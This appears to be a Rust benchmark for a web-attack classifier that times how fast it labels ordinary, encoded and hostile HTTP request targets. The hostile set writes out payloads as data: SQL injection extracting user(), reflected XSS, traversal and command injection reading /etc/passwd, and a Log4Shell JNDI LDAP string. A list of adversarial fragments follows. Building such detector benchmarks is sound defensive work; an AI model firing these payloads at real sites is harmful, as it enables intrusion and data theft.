//! Nanoseconds a request, on made requests: ordinary ones, ordinary ones that need decoding, hostile ones.

use knowledge::web_attacks::WebAttacks;
use sensors::web_log::classify::{Classifier, Request, Scratch};
use std::time::Instant;

const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36",
];

fn main() {
    let classifier = Classifier::new(&WebAttacks::embedded());
    let plain: Vec<String> = (0..4096)
        .map(|number| match number % 4 {
            0 => format!("/actualites/2017/02/{:02}/meeting-a-lyon-{number}-le-programme-complet.html", number % 28),
            1 => format!("/wp-content/themes/campagne/assets/js/app-{number:06}.min.js?ver=4.7.{}", number % 9),
            2 => format!("/photos/equipe/grande-taille/portrait-candidat-{number:08}-1200x800.jpg"),
            _ => {
                format!("/evenements/?page={}&departement={}&tri=date&type=reunion-publique", number % 50, number % 95)
            }
        })
        .collect();
    let encoded: Vec<String> = (0..4096)
        .map(|number| match number % 3 {
            0 => format!(
                "/?s=l%27%C3%A9lection+pr%C3%A9sidentielle+{number}&utm_source=lettre&utm_campaign=f%C3%A9vrier"
            ),
            1 => format!("/recherche?q=o%C3%B9+voter+%C3%A0+Paris+{number}&lieu=Paris%2C+France"),
            _ => format!("/photos/mon%20dossier/image%20{number}%20(1).jpg?largeur=800"),
        })
        .collect();
    let hostile: Vec<String> = (0..4096)
        .map(|number| match number % 6 {
            0 => format!("/article.php?id={number}%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x71,user(),0x71)--%20-"),
            1 => format!("/?q=%22%3E%3Cscript%3Ealert({number})%3C%2Fscript%3E"),
            2 => format!("/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd%00{number}"),
            3 => format!("/ping?host=127.0.0.1%3Bcat%20/etc/passwd{number}"),
            4 => format!("/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F10.0.0.{}%2Fa%7D", number % 255),
            _ => format!("/news?id={number}%20AND%20(SELECT%20{number}%20FROM(SELECT%20COUNT(*),CONCAT(0x7171,FLOOR(RAND(0)*2))x%20FROM%20INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x)a)"),
        })
        .collect();
    for (name, targets) in [("ordinary", &plain), ("ordinary, encoded", &encoded), ("hostile", &hostile)] {
        if std::env::args().nth(1).is_some_and(|word| word != name) {
            continue;
        }
        let bytes: usize = targets.iter().map(String::len).sum();
        let mut scratch = Scratch::default();
        let mut best = f64::MAX;
        let mut strong = 0;
        for _ in 0..60 {
            strong = 0;
            let start = Instant::now();
            for (number, target) in targets.iter().enumerate() {
                let request = Request {
                    method: b"GET",
                    target: target.as_bytes(),
                    protocol: b"HTTP/1.1",
                    user_agent: AGENTS[number & 3].as_bytes(),
                    referer: b"https://www.example.org/actualites/page-precedente-2017.html",
                    host: b"www.example.org",
                    status: 200,
                };
                strong += usize::from(!classifier.classify(&request, &mut scratch).strong.is_empty());
            }
            best = best.min(start.elapsed().as_nanos() as f64 / targets.len() as f64);
        }
        println!(
            "{name:20} {best:7.0} ns a request (target {} bytes), {strong} of {} strong",
            bytes / targets.len(),
            targets.len()
        );
    }
    // The worst an adversary can write: each of these fills the part that is examined.
    let mut worst = (0.0, "");
    let units = [
        "'",
        "\"",
        "(",
        "or ",
        "' or ",
        "or (",
        "<",
        "<a ",
        "<a =",
        "on",
        " on",
        ":",
        "a:",
        "${",
        "${a:",
        "${a:-",
        "}",
        "/*",
        "--",
        "%25",
        "&#",
        "&",
        "`",
        "`a",
        "$(",
        ";",
        ";id",
        "; ",
        "\\n",
        "../",
        "/.",
        "\\",
        "a(",
        "alert(",
        "union select ",
        "() {",
        "{{1*",
        ")(",
        "(|(",
        "case when ",
        "select ",
        "o:1",
        "%0a",
        "%0aa",
        "a=b&",
        "[",
        "%c0",
        "/.git",
        "sleep(",
        "1,",
        "and 1=",
        "javascript",
        "java:",
        "{file}",
    ];
    let mut scratch = Scratch::default();
    for unit in units {
        for lead in ["/?q=", "/"] {
            let target = format!("{lead}{}", unit.repeat(8192 / unit.len()));
            let request = Request {
                method: b"GET",
                target: target.as_bytes(),
                protocol: b"HTTP/1.1",
                user_agent: &target.as_bytes()[lead.len()..],
                referer: &target.as_bytes()[lead.len()..],
                host: b"www.example.org",
                status: 200,
            };
            // The best of five: other work on the machine is not what is measured.
            let mut spent = f64::MAX;
            for _ in 0..5 {
                let start = Instant::now();
                classifier.classify(&request, &mut scratch);
                spent = spent.min(start.elapsed().as_nanos() as f64);
            }
            if spent > worst.0 {
                worst = (spent, unit);
            }
        }
    }
    println!("worst of {} nasty ones   {:7.0} ns for 3 × 8 KiB of {:?}", units.len() * 2, worst.0, worst.1);
}
